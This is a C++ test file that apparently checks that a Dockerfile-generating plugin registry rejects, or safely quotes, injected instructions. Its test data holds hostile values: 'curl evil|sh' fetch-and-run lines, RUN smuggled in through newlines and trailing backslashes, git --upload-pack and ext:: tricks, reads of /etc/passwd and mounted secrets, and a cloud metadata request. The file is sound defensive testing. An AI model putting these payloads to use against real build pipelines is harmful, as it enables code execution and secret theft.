// Every way we could think of to smuggle a Dockerfile instruction through a plugin value.
// A value is either rejected at validation (kInvalid naming plugin and attribute) or rendered so
// that the Dockerfile has exactly the instructions the pipeline asked for.
#include <catch2/catch.hpp>

#include "market/plugin_registry.hpp"
#include "plugin_test_util.hpp"
#include "plugins/dockerfile_text.hpp"

using namespace market;
using namespace market::testing;

namespace {

const PluginRegistry& Plugins() {
  static const auto registry = MakeBuiltinPluginRegistry();
  return *registry;
}

// Validation of `entry` (after a base image, in a tool pipeline) fails with kInvalid naming
// `field`, and rendering fails the same way.
void ExpectRejected(PluginInstance entry, const std::string& field) {
  Pipeline pipeline = {BaseImage(), entry};
  Result<Pipeline> validated = Plugins().Validate(DockerfileType::kTool, pipeline);
  REQUIRE_FALSE(validated.has_value());
  CHECK(validated.error().code == Errc::kInvalid);
  CHECK_THAT(validated.error().message, Catch::StartsWith(field + ":"));
  Result<RenderedDockerfile> rendered = Plugins().Render(DockerfileType::kTool, pipeline);
  REQUIRE_FALSE(rendered.has_value());
  CHECK(rendered.error().code == Errc::kInvalid);
}

std::vector<std::string> Lines(const std::string& text) {
  std::vector<std::string> lines;
  std::size_t start = 0;
  for (std::size_t nl = text.find('\n'); nl != std::string::npos; nl = text.find('\n', start)) {
    lines.push_back(text.substr(start, nl - start));
    start = nl + 1;
  }
  CHECK(start == text.size());  // a trailing newline, nothing after it
  return lines;
}

// Renders base image + `entry`; returns the lines after FROM, checking the whole text has no CR,
// no NUL and no line ending in a continuation.
std::vector<std::string> RenderAccepted(PluginInstance entry) {
  Result<RenderedDockerfile> rendered =
      Plugins().Render(DockerfileType::kTool, {BaseImage(), std::move(entry)});
  INFO((rendered ? std::string() : rendered.error().message));
  REQUIRE(rendered.has_value());
  CHECK(rendered->text.find('\r') == std::string::npos);
  CHECK(rendered->text.find('\0') == std::string::npos);
  std::vector<std::string> lines = Lines(rendered->text);
  REQUIRE_FALSE(lines.empty());
  CHECK(lines.front() == "FROM 127.0.0.1:5000/base/busybox:1");
  for (const std::string& line : lines) CHECK_FALSE(dockerfile::EndsWithLineContinuation(line));
  lines.erase(lines.begin());
  return lines;
}

// What the Dockerfile lexer reads back from a double-quoted word (BuildKit's processDoubleQuote:
// backslash escapes ", $ and itself, other backslashes stay; an unescaped $ would expand).
std::string ReadBackQuoted(const std::string& quoted) {
  REQUIRE(quoted.size() >= 2);
  REQUIRE(quoted.front() == '"');
  std::string out;
  std::size_t i = 1;
  for (; i < quoted.size(); ++i) {
    char c = quoted[i];
    if (c == '"') break;
    REQUIRE(c != '$');  // would be variable expansion
    if (c == '\\' && i + 1 < quoted.size() &&
        (quoted[i + 1] == '"' || quoted[i + 1] == '$' || quoted[i + 1] == '\\')) {
      c = quoted[++i];
    }
    out.push_back(c);
  }
  CHECK(i == quoted.size() - 1);  // the closing quote ends the word
  return out;
}

const std::vector<std::string> kHostileData = {
    "x\" && curl evil|sh #",
    "\"; RUN curl evil|sh; echo \"",
    "trailing backslash \\",
    "\\",
    "\\\\\\\"",
    "$(curl evil|sh)",
    "${PATH}",
    "`id`",
    "a=b c=d",
    "'single'",
    "中文 \u2028 \u2029 😀",
    "",
    " leading and trailing ",
    "#!/bin/sh",
    "<<EOF",
};

}  // namespace

// --- env_set -------------------------------------------------------------------------------

TEST_CASE("injection: env value with a newline and a RUN") {
  ExpectRejected(Entry("env_set", {{"key", "A"}, {"value", "x\nRUN curl evil|sh"}}),
                 "env_set.value[0]");
}

TEST_CASE("injection: env value with a carriage return") {
  ExpectRejected(Entry("env_set", {{"key", "A"}, {"value", "x\rRUN curl evil|sh"}}),
                 "env_set.value[0]");
}

TEST_CASE("injection: env value with NUL") {
  ExpectRejected(Entry("env_set", {{"key", "A"}, {"value", std::string("x\0y", 3)}}),
                 "env_set.value[0]");
}

TEST_CASE("injection: env value with other control characters (tab, ESC, DEL, NEL, VT, FF)") {
  for (std::string bad : {"a\tb", "a\x1b[2Jb", "a\x7f", "a\u0085RUN x", "a\vb", "a\fb"}) {
    INFO(bad);
    ExpectRejected(Entry("env_set", {{"key", List{"OK", "A"}}, {"value", List{"fine", bad}}}),
                   "env_set.value[1]");
  }
}

TEST_CASE("injection: env value with invalid UTF-8") {
  ExpectRejected(Entry("env_set", {{"key", "A"}, {"value", "\xc0\x8aRUN x"}}), "env_set.value[0]");
}

TEST_CASE("injection: U+2028 and U+2029 are data, on the same line") {
  auto lines = RenderAccepted(Entry("env_set", {{"key", "A"}, {"value", "x\u2028RUN y\u2029z"}}));
  REQUIRE(lines.size() == 1);
  CHECK(lines[0] == "ENV A=\"x\u2028RUN y\u2029z\"");
}

TEST_CASE("injection: env key with '=' and a space") {
  ExpectRejected(Entry("env_set", {{"key", List{"OK", "A=1 B"}}, {"value", List{"1", "2"}}}),
                 "env_set.key[1]");
}

TEST_CASE("injection: env keys with quotes, newlines, dashes, digits first") {
  for (std::string bad : {"A\"", "A B", "A\nRUN", "A-B", "1A", "$A", "A\\"}) {
    INFO(bad);
    ExpectRejected(Entry("env_set", {{"key", bad}, {"value", "v"}}), "env_set.key[0]");
  }
}

TEST_CASE("injection: hostile env values render as one quoted literal each") {
  List keys;
  for (std::size_t i = 0; i < kHostileData.size(); ++i) keys.push_back("K" + std::to_string(i));
  auto lines = RenderAccepted(Entry("env_set", {{"key", keys}, {"value", kHostileData}}));
  REQUIRE(lines.size() == kHostileData.size());
  for (std::size_t i = 0; i < lines.size(); ++i) {
    std::string prefix = "ENV " + keys[i] + "=";
    REQUIRE_THAT(lines[i], Catch::StartsWith(prefix));
    CHECK(ReadBackQuoted(lines[i].substr(prefix.size())) == kHostileData[i]);
  }
}

TEST_CASE("injection: env value with a trailing backslash does not continue the line") {
  auto lines = RenderAccepted(Entry("env_set", {{"key", "A"}, {"value", "C:\\"}}));
  REQUIRE(lines.size() == 1);
  CHECK(lines[0] == R"(ENV A="C:\\")");
}

TEST_CASE("injection: dollar signs are data, not expansion") {
  auto lines = RenderAccepted(Entry("env_set", {{"key", "A"}, {"value", "$HOME ${X:-y}"}}));
  REQUIRE(lines.size() == 1);
  CHECK(lines[0] == R"(ENV A="\$HOME \${X:-y}")");
}

// --- label, maintainer, arg ------------------------------------------------------------------

TEST_CASE("injection: label keys with quotes, '=', spaces or newlines") {
  for (std::string bad : {"a\"b", "a=b", "a b", "a\nLABEL x", "\"", "a\\"}) {
    INFO(bad);
    ExpectRejected(Entry("label", {{"key", bad}, {"value", "v"}}), "label.key[0]");
  }
}

TEST_CASE("injection: hostile label values render as one quoted literal each") {
  List keys;
  for (std::size_t i = 0; i < kHostileData.size(); ++i) keys.push_back("k" + std::to_string(i));
  auto lines = RenderAccepted(Entry("label", {{"key", keys}, {"value", kHostileData}}));
  REQUIRE(lines.size() == kHostileData.size());
  for (std::size_t i = 0; i < lines.size(); ++i) {
    std::string prefix = "LABEL " + keys[i] + "=";
    REQUIRE_THAT(lines[i], Catch::StartsWith(prefix));
    CHECK(ReadBackQuoted(lines[i].substr(prefix.size())) == kHostileData[i]);
  }
}

TEST_CASE("injection: label value with a newline") {
  ExpectRejected(Entry("label", {{"key", "a"}, {"value", "v\nRUN x"}}), "label.value[0]");
}

TEST_CASE("injection: maintainer breaking out of its quotes") {
  auto lines = RenderAccepted(Entry("maintainer", {{"input_maintainer", R"(x" evil="1)"}}));
  REQUIRE(lines.size() == 1);
  CHECK(lines[0] == R"(LABEL maintainer="x\" evil=\"1")");
  ExpectRejected(Entry("maintainer", {{"input_maintainer", "x\nRUN id"}}),
                 "maintainer.input_maintainer");
}

TEST_CASE("injection: arg names and values") {
  ExpectRejected(Entry("arg", {{"key", "A=B"}}), "arg.key[0]");
  ExpectRejected(Entry("arg", {{"key", "A B"}}), "arg.key[0]");
  ExpectRejected(Entry("arg", {{"key", "A"}, {"value", "1\nRUN x"}}), "arg.value[0]");
  auto lines = RenderAccepted(Entry("arg", {{"key", "A"}, {"value", "$(id) \"x\""}}));
  REQUIRE(lines.size() == 1);
  CHECK(lines[0] == R"(ARG A="\$(id) \"x\"")");
}

// --- run -------------------------------------------------------------------------------------

TEST_CASE("injection: RUN value with a newline") {
  ExpectRejected(Entry("run", {{"value", "echo hi\nRUN curl evil|sh"}}), "run.value[0]");
}

TEST_CASE("injection: RUN value with a CR-LF") {
  ExpectRejected(Entry("run", {{"value", List{"true", "echo hi\r\nUSER root"}}}), "run.value[1]");
}

TEST_CASE("injection: RUN value with a trailing backslash continues onto the next line") {
  ExpectRejected(Entry("run", {{"value", List{"echo a \\", "curl evil|sh"}}}), "run.value[0]");
  ExpectRejected(Entry("run", {{"value", "echo a \\  "}}), "run.value[0]");
}

TEST_CASE("injection: RUN value starting with a RUN option (--mount, --network, --security)") {
  for (std::string bad : {"--mount=type=secret,id=npm cat /run/secrets/npm",
                          "  --network=host curl http://169.254.169.254/",
                          "--security=insecure mount", "--mount=type=bind,target=/x ls"}) {
    INFO(bad);
    ExpectRejected(Entry("run", {{"value", bad}}), "run.value[0]");
  }
}

TEST_CASE("injection: RUN value with a here-document swallowing what follows") {
  ExpectRejected(Entry("run", {{"value", "cat <<EOF"}}), "run.value[0]");
  ExpectRejected(Entry("run", {{"value", "cat <<-'END' > /etc/x"}}), "run.value[0]");
}

TEST_CASE("injection: RUN values that are fine stay one line each") {
  auto lines = RenderAccepted(
      Entry("run", {{"value", List{"echo \"a\\nb\" | tr a b", "cat <<< word", "echo $((1<<3))",
                                   "echo \u2028 RUN x", "echo -- --mount"}}}));
  CHECK(lines == std::vector<std::string>{"RUN echo \"a\\nb\" | tr a b", "RUN cat <<< word",
                                          "RUN echo $((1<<3))", "RUN echo \u2028 RUN x",
                                          "RUN echo -- --mount"});
}

TEST_CASE("injection: empty RUN values") {
  ExpectRejected(Entry("run", {{"value", List{"true", "  "}}}), "run.value[1]");
}

// --- base image -------------------------------------------------------------------------------

TEST_CASE("injection: base image with a newline") {
  ExpectRejected(BaseImage("busybox\nRUN x"), "base_image_choose_from_harbor.handleInput");
}

TEST_CASE("injection: base image that is not an image reference") {
  for (std::string bad : {"busybox AS x", "busybox:1 \\", "$BASE", "busybox --platform=linux/arm",
                          "--platform=x busybox", "busybox;RUN x", "Busybox", "busybox@evil"}) {
    INFO(bad);
    Result<Pipeline> r = Plugins().Validate(DockerfileType::kTool, {BaseImage(bad)});
    REQUIRE_FALSE(r.has_value());
    CHECK(r.error().code == Errc::kInvalid);
    CHECK_THAT(r.error().message, Catch::StartsWith("base_image_choose_from_harbor.handleInput:"));
  }
}

// --- copy ------------------------------------------------------------------------------------

TEST_CASE("injection: copy source outside the context") {
  ExpectRejected(Entry("copy", {{"key", "../etc/passwd"}, {"value", "/x"}}), "copy.key[0]");
  ExpectRejected(Entry("copy", {{"key", "/etc/passwd"}, {"value", "/x"}}), "copy.key[0]");
  ExpectRejected(Entry("copy", {{"key", List{"ok", "a/../../etc"}}, {"value", List{"/a", "/b"}}}),
                 "copy.key[1]");
}

TEST_CASE("injection: copy paths with expansion, escapes, quotes or newlines") {
  for (std::string bad : {"$HOME/.ssh", "a\\b", "a\"b", "it's", "a\nRUN x"}) {
    INFO(bad);
    ExpectRejected(Entry("copy", {{"key", bad}, {"value", "/x"}}), "copy.key[0]");
    ExpectRejected(Entry("copy", {{"key", "src"}, {"value", bad}}), "copy.value[0]");
  }
}

TEST_CASE("injection: copy in exec form keeps option-looking paths as paths") {
  auto lines = RenderAccepted(Entry("copy", {{"key", "--from=secret"}, {"value", "/x ], [y"}}));
  REQUIRE(lines.size() == 1);
  CHECK(lines[0] == R"(COPY ["--from=secret", "/x ], [y"])");
}

// --- exec forms -----------------------------------------------------------------------------

TEST_CASE("injection: entrypoint with unbalanced quotes") {
  ExpectRejected(Entry("entrypoint", {{"input_entrypoint", "sh -c 'echo"}}),
                 "entrypoint.input_entrypoint");
  ExpectRejected(Entry("entrypoint", {{"input_entrypoint", "sh -c \"echo"}}),
                 "entrypoint.input_entrypoint");
  ExpectRejected(Entry("entrypoint", {{"input_entrypoint", "sh \\"}}),
                 "entrypoint.input_entrypoint");
}

TEST_CASE("injection: entrypoint with a newline") {
  ExpectRejected(Entry("entrypoint", {{"input_entrypoint", "sh\nRUN curl evil|sh"}}),
                 "entrypoint.input_entrypoint");
}

TEST_CASE("injection: entrypoint words that look like JSON stay JSON strings") {
  auto lines = RenderAccepted(Entry("entrypoint", {{"input_entrypoint", R"('"]' RUN '["x' \\)"}}));
  REQUIRE(lines.size() == 1);
  CHECK(lines[0] == R"(ENTRYPOINT ["\"]", "RUN", "[\"x", "\\"])");
  auto parsed = nlohmann::json::parse(lines[0].substr(std::string("ENTRYPOINT ").size()));
  CHECK(parsed == nlohmann::json({"\"]", "RUN", "[\"x", "\\"}));
}

TEST_CASE("injection: cmd with unbalanced quotes or control characters") {
  ExpectRejected(Entry("cmd", {{"input_cmd", "echo 'x"}}), "cmd.input_cmd");
  ExpectRejected(Entry("cmd", {{"input_cmd", "echo\tx"}}), "cmd.input_cmd");
}

TEST_CASE("injection: healthcheck options cannot carry extra flags or instructions") {
  ExpectRejected(Entry("healthcheck", {{"cmd", "true"}, {"interval", "30s CMD curl evil"}}),
                 "healthcheck.interval");
  ExpectRejected(Entry("healthcheck", {{"cmd", "true"}, {"timeout", "5s --retries=9"}}),
                 "healthcheck.timeout");
  ExpectRejected(Entry("healthcheck", {{"cmd", "true"}, {"retries", "3\nRUN x"}}),
                 "healthcheck.retries");
  ExpectRejected(Entry("healthcheck", {{"cmd", "true"}, {"start_period", "-1s"}}),
                 "healthcheck.start_period");
  ExpectRejected(Entry("healthcheck", {{"cmd", "curl 'x"}}), "healthcheck.cmd");
}

// --- single-word instructions ------------------------------------------------------------------

TEST_CASE("injection: work_dir") {
  ExpectRejected(Entry("work_dir", {{"input_workDir", "/app\nRUN x"}}), "work_dir.input_workDir");
  ExpectRejected(Entry("work_dir", {{"input_workDir", "app"}}), "work_dir.input_workDir");
  ExpectRejected(Entry("work_dir", {{"input_workDir", "/app \\"}}), "work_dir.input_workDir");
  ExpectRejected(Entry("work_dir", {{"input_workDir", "/app/$X"}}), "work_dir.input_workDir");
  ExpectRejected(Entry("work_dir", {{"input_workDir", "/a\"b"}}), "work_dir.input_workDir");
}

TEST_CASE("injection: user") {
  ExpectRejected(Entry("user", {{"input_user", "root\nRUN id"}}), "user.input_user");
  ExpectRejected(Entry("user", {{"input_user", "root RUN id"}}), "user.input_user");
  ExpectRejected(Entry("user", {{"input_user", "$U"}}), "user.input_user");
}

TEST_CASE("injection: expose") {
  for (std::string bad : {"80\nRUN x", "80 81", "80;RUN x", "80/tcp\\", "0x50"}) {
    INFO(bad);
    ExpectRejected(Entry("expose", {{"port", List{"22", bad}}}), "expose.port[1]");
  }
}

// --- sources ---------------------------------------------------------------------------------

TEST_CASE("injection: download_executable_source URL, ref, folder and user") {
  auto entry = [](std::string attribute, std::string value) {
    PluginInstance e =
        Entry("download_executable_source", {{"source_type", "git"},
                                             {"source_url", "https://git.example.com/a.git"},
                                             {"checkoutAs", "src"},
                                             {"containerPath", "/src"}});
    e.attributes[attribute] = std::move(value);
    return e;
  };
  ExpectRejected(entry("source_url", "--upload-pack=touch /tmp/pwned"),
                 "download_executable_source.source_url");
  ExpectRejected(entry("source_url", "ext::sh -c touch% /tmp/pwned"),
                 "download_executable_source.source_url");
  ExpectRejected(entry("source_url", "https://u:pw@git.example.com/a.git"),
                 "download_executable_source.source_url");
  ExpectRejected(entry("ref", "--output=/etc/passwd"), "download_executable_source.ref");
  ExpectRejected(entry("checkoutAs", "../outside"), "download_executable_source.checkoutAs");
  ExpectRejected(entry("checkoutAs", "/abs"), "download_executable_source.checkoutAs");
  ExpectRejected(entry("containerPath", "/x\nRUN y"), "download_executable_source.containerPath");
  ExpectRejected(entry("username", "-oProxyCommand=x"), "download_executable_source.username");
  ExpectRejected(entry("password", "pw\nRUN x"), "download_executable_source.password");
  ExpectRejected(entry("source_type", "git --x"), "download_executable_source.source_type");
}

TEST_CASE("injection: download_dockerfile path outside its checkout") {
  Result<Pipeline> r = Plugins().Validate(
      DockerfileType::kDownload,
      {Entry("download_dockerfile", {{"sourceType", "git"},
                                     {"sourceUrl", "https://git.example.com/a.git"},
                                     {"checkoutAs", "repo"},
                                     {"dockerfilePath", "../../etc/passwd"}})});
  REQUIRE_FALSE(r.has_value());
  CHECK(r.error().code == Errc::kInvalid);
  CHECK_THAT(r.error().message, Catch::StartsWith("download_dockerfile.dockerfilePath:"));
}

// --- static text -----------------------------------------------------------------------------

TEST_CASE(
    "injection: static_dockerfile is the user's own text, but not NUL or a dangling "
    "continuation") {
  Result<Pipeline> nul = Plugins().Validate(
      DockerfileType::kEdit,
      {Entry("static_dockerfile", {{"dockerfile", std::string("FROM a\0RUN x", 12)}})});
  REQUIRE_FALSE(nul.has_value());
  CHECK_THAT(nul.error().message, Catch::StartsWith("static_dockerfile.dockerfile:"));
  // A trailing continuation would join the COPY of a source checked out after it.
  Result<Pipeline> dangling = Plugins().Validate(
      DockerfileType::kEdit,
      {Entry("static_dockerfile", {{"dockerfile", "FROM a\nRUN x \\\n\n"}}),
       Entry("download_executable_source", {{"source_type", "git"},
                                            {"source_url", "https://git.example.com/a.git"},
                                            {"checkoutAs", "src"},
                                            {"containerPath", "/src"}})});
  REQUIRE_FALSE(dangling.has_value());
  CHECK_THAT(dangling.error().message, Catch::StartsWith("static_dockerfile.dockerfile:"));
}

// --- plugins added by embedders -----------------------------------------------------------------

namespace {
class SloppyPlugin final : public Plugin {
 public:
  SloppyPlugin() { schema_.name = "sloppy"; }
  const PluginSchema& Schema() const override { return schema_; }
  Result<void> Validate(const PluginInstance&) const override { return {}; }
  Result<void> Render(const PluginInstance&, RenderContext& out) const override {
    out.instructions.push_back("RUN a\nRUN b");
    return {};
  }

 private:
  PluginSchema schema_;
};
}  // namespace

TEST_CASE("injection: a plugin that renders a line break is stopped by the registry") {
  auto registry = MakeBuiltinPluginRegistry();
  REQUIRE(registry->Add(std::make_unique<SloppyPlugin>()).has_value());
  Result<RenderedDockerfile> r =
      registry->Render(DockerfileType::kTool, {BaseImage(), Entry("sloppy")});
  REQUIRE_FALSE(r.has_value());
  CHECK(r.error().code == Errc::kInternal);
  CHECK_THAT(r.error().message, Catch::Contains("sloppy"));
}

TEST_CASE("values far longer than any real one are refused without exhausting the stack") {
  // std::regex recurses per character; the body limit alone would allow a megabyte here.
  const std::string huge(512 * 1024, 'a');
  ExpectRejected(Entry("env_set", {{"key", huge}, {"value", "1"}}), "env_set.key[0]");
  ExpectRejected(Entry("expose", {{"port", huge}}), "expose.port[0]");
  ExpectRejected(Entry("download_executable_source",
                       {{"source_type", "git"},
                        {"source_url", "https://example.com/" + huge},
                        {"checkoutAs", "src"},
                        {"containerPath", "/src"}}),
                 "download_executable_source.source_url");
  Pipeline pipeline = {Entry("base_image_choose_from_harbor", {{"handleInput", huge}})};
  auto validated = Plugins().Validate(DockerfileType::kTool, pipeline);
  REQUIRE_FALSE(validated);
  CHECK(validated.error().code == Errc::kInvalid);
}
